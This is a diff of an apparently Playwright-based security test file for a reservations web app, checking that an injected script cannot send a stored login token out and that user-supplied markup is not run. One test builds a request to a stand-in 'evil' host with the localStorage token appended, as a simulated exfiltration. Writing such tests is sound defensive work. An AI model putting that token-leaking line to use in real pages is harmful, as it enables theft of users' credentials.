@@ -93,9 +93,9 @@ describe('a script injected into a page', () => {
 
   it('could not send the token anywhere if it ran', async () => {
     const page = await openPage();
-    const asked = await watchEvil(page);
     await storeToken(page, CUSTOMER);
-    await page.goto('/');
+    await page.goto('/about');
+    const asked = await watchEvil(page);
     expect(await page.evaluate(() => localStorage.getItem('token'))).toMatch(/^ey/);
     await page.evaluate(async (evil) => {
       const url = `${evil}/?${localStorage.getItem('token')}`;
@@ -128,8 +128,7 @@ describe('markup in what people write', () => {
     const page = await openSignedIn(customer);
     await page.goto(`/user/reservations/${id}`);
     await page.getByText(MARKUP, { exact: true }).filter({ visible: true }).first().waitFor();
-    await page.goto('/user');
-    await page.getByText(MARKUP).filter({ visible: true }).first().waitFor();
+    await page.getByRole('button', { name: MARKUP }).waitFor();
     expect(await stolen(page)).toBeUndefined();
     await removeVehicles('Threattest');
     await removeUsers();
